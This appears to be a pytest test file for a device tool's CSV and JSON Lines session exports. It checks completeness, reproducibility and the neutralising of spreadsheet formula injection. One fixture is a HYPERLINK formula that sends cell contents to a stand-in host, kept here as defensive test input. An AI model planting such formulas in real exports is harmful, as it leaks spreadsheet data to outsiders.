"""Exports: complete, the same for the same seed, and harmless in a spreadsheet."""

import csv
import io
import json
from datetime import UTC, datetime
from typing import Any

import pytest

from devicectl.log.export import VOLATILE_FIELDS, to_cell, write_csv, write_jsonl
from devicectl.log.report import SessionReport
from devicectl.log.store import SessionLog
from devicectl.session.entries import Note
from protocols.enums import Ending, Phase, RecordKind
from protocols.messages import TruthGetDone
from protocols.notice import NOTICE
from protocols.records import Anesthesia
from protocols.text import printable
from protocols.wire import encode_record
from tests.integration.log_builders import a_batch, a_cycle, a_finish, a_start

FORMULA = '=HYPERLINK("http://example.invalid/?"&A1,"x")'
TRUTH = TruthGetDone(
    session_no=1, cycles_commanded=2, cycles_completed=1, punctures=4, cores_evacuated=3, cores_counted=2, clogs=0
)


def a_report(minute: int = 0, *, earlier: int = 0, **changes: Any) -> SessionReport:
    """One small session of every kind of record, begun at a `minute` of the wall, after `earlier` others."""
    with SessionLog.open("sqlite://", wall_clock=lambda: datetime(2024, 3, 1, 8, minute, tzinfo=UTC)) as log:
        for _ in range(earlier):
            log.begin(a_start())
        key = log.begin(a_start(**{"course": "spring", **changes}))
        aborted = a_cycle(3, 2, ending=Ending.ABORTED, phase=Phase.PUNCH, outcomes=0x003, total_punctures=4,
                          total_cores_counted=2)  # fmt: skip
        records = [
            encode_record(Anesthesia(event_no=1, uptime_ms=9, zone=2, confirmed=1, age_s=300)),
            encode_record(a_cycle(2, 1)),
            encode_record(aborted),
            (4).to_bytes(4, "little") + bytes(4) + b"\x77" + bytes(23),
        ]
        notes = [Note("refusal", 77, FORMULA, 'line one\nline two, "quoted"', 12), Note("action", -5, "-x", "", None)]
        log.store(key, a_batch(1, records), notes)
        log.finish(key, a_finish(state="aborted", wall_seconds=float(minute), reconciled=False))
        log.store_truth(key, TRUTH)
        return log.load(key)


def csv_rows(report: SessionReport) -> list[dict[str, str]]:
    out = io.StringIO()
    write_csv(report, out)
    return list(csv.DictReader(io.StringIO(out.getvalue())))


def json_items(report: SessionReport) -> list[dict[str, Any]]:
    out = io.StringIO()
    write_jsonl(report, out)
    return [json.loads(line) for line in out.getvalue().splitlines()]


def test_csv_says_what_it_is_in_every_row() -> None:
    rows = csv_rows(a_report())
    assert next(iter(rows[0])) == "notice"
    for row in rows:
        assert (row["notice"], row["simulated"], row["seed"], row["model_version"]) == (NOTICE, "true", "7", "1")


def test_csv_has_every_record_and_note() -> None:
    rows = csv_rows(a_report())
    assert [row["row"] for row in rows] == ["session", "record", "cycle", "cycle", "record", "note", "note"]
    session, record, cycle, aborted, unknown, note, _ = rows
    assert (session["cycles"], session["aborted"], session["cores_counted"], session["cores_evacuated"]) == (
        "2", "1", "2", "3"
    )  # fmt: skip
    assert (session["course"], session["reconciled"], session["coverage_percent"]) == ("spring", "false", "0.251")
    assert (record["name"], record["detail"]) == ("anesthesia", "zone=2 confirmed=1 age_s=300")
    assert [cycle[f"needle_{number}"] for number in (1, 2, 3)] == ["counted", "empty", "counted"]
    assert (cycle["cycle_no"], cycle["punctures"], cycle["cores_counted"], cycle["ending"]) == (
        "1",
        "3",
        "2",
        "completed",
    )
    assert [aborted[f"needle_{number}"] for number in (1, 2, 3)] == ["uncounted", "not_punctured", "not_punctured"]
    assert (unknown["event_no"], unknown["name"]) == ("4", "unknown 119")
    assert (note["kind"], note["at_us"], note["uptime_ms"]) == ("refusal", "77", "12")
    assert note["detail"] == 'line one\\nline two, "quoted"'


def test_csv_has_a_column_for_every_needle_there_was() -> None:
    with SessionLog.open("sqlite://") as log:
        key = log.begin(a_start())
        log.store(key, a_batch(1, [encode_record(a_cycle(1, needles=5, outcomes=0x11111))]))
        (_, cycle) = csv_rows(log.load(key))
    assert "needle_5" in cycle and "needle_6" not in cycle


def test_a_record_with_unreadable_fields_is_exported_as_bytes() -> None:
    not_a_number = (1).to_bytes(4, "little") + bytes(4) + bytes([RecordKind.PARAMETER]) + b"\xff" * 23
    with SessionLog.open("sqlite://") as log:
        key = log.begin(a_start())
        log.store(key, a_batch(1, [not_a_number]))
        report = log.load(key)
    item = json_items(report)[2]
    assert (item["kind"], item["event_no"], item["raw"]) == ("parameter", 1, not_a_number.hex())
    assert "value" not in item and csv_rows(report)[1]["name"] == "parameter"


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20"])
def test_no_text_of_anybody_is_a_formula(start: str) -> None:
    text = f"{start}1+1"
    cell = f"'{text}" if text.isprintable() else printable(text)
    rows = csv_rows(a_report(course=text, device=text, versions={"model": text}))
    assert rows[0]["course"] == rows[0]["device"] == rows[0]["model_version"] == cell
    for row in rows:
        for name, value in row.items():
            assert not value.startswith(start) or name == "at_us"


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (-5, -5),
        (-0.5, -0.5),
        ("-5", "'-5"),
        (True, "true"),
        (False, "false"),
        (None, ""),
        ("a=1", "a=1"),
        ("", ""),
        ("  =1+1", "'  =1+1"),
        (" \t@A1", " \\t@A1"),
        ("\u3000\uff1d1", "\\u3000\uff1d1"),
        (" \uff1d1", "' \uff1d1"),
        ("  a", "  a"),
        ("  ", "  "),
    ],
)
def test_only_a_number_that_is_one_keeps_its_sign(value: object, cell: object) -> None:
    assert to_cell(value) == cell


def test_json_lines_say_what_they_are() -> None:
    items = json_items(a_report())
    assert items[0]["notice"] == NOTICE
    for item in items:
        assert (item["simulated"], item["seed"], item["model_version"]) == (True, 7, "1")


def test_json_lines_have_everything() -> None:
    report = a_report()
    items = json_items(report)
    assert [item["type"] for item in items] == [
        "header", "session", "record", "record", "record", "record", "note", "note", "truth", "summary",
    ]  # fmt: skip
    session, cycle, unknown, note, truth, summary = (items[index] for index in (1, 3, 5, 6, 8, 9))
    assert session["plan"]["target_cores"] == 10_000 and session["versions"] == {
        "model": "1",
        "product": "0.1.0",
        "protocol": "1.0",
    }
    assert (cycle["kind"], cycle["outcomes"], cycle["punctures"]) == ("cycle", ["counted", "empty", "counted"], 3)
    assert (unknown["kind"], unknown["event_no"]) == ("unknown 119", 4)
    assert note["name"] == FORMULA
    assert truth["cores_evacuated"] == 3 and truth["clogs"] == 0
    assert summary["reconciled"] is False and summary["differences"] == list(report.differences)
    assert [bytes.fromhex(item["raw"]) for item in items if item["type"] == "record"] == list(report.records)


def test_json_lines_of_an_open_session_have_no_truth_and_no_totals() -> None:
    with SessionLog.open("sqlite://") as log:
        items = json_items(log.load(log.begin(a_start(seed=None, simulated=False))))
    assert [item["type"] for item in items] == ["header", "session", "summary"]
    assert (items[-1]["device_totals"], items[-1]["seed"], items[-1]["simulated"]) == (None, None, False)


def test_the_same_seed_twice_is_the_same_but_for_the_volatile_fields() -> None:
    first, second = a_report(), a_report(30, earlier=2)
    for read in (csv_rows, json_items):
        texts = []
        for report in (first, second):
            rows: list[dict[str, Any]] = read(report)
            texts.append([{name: row[name] for name in row if name not in VOLATILE_FIELDS} for row in rows])
        assert texts[0] == texts[1]
    assert json_items(first) != json_items(second)
    assert json_items(first) == json_items(a_report())
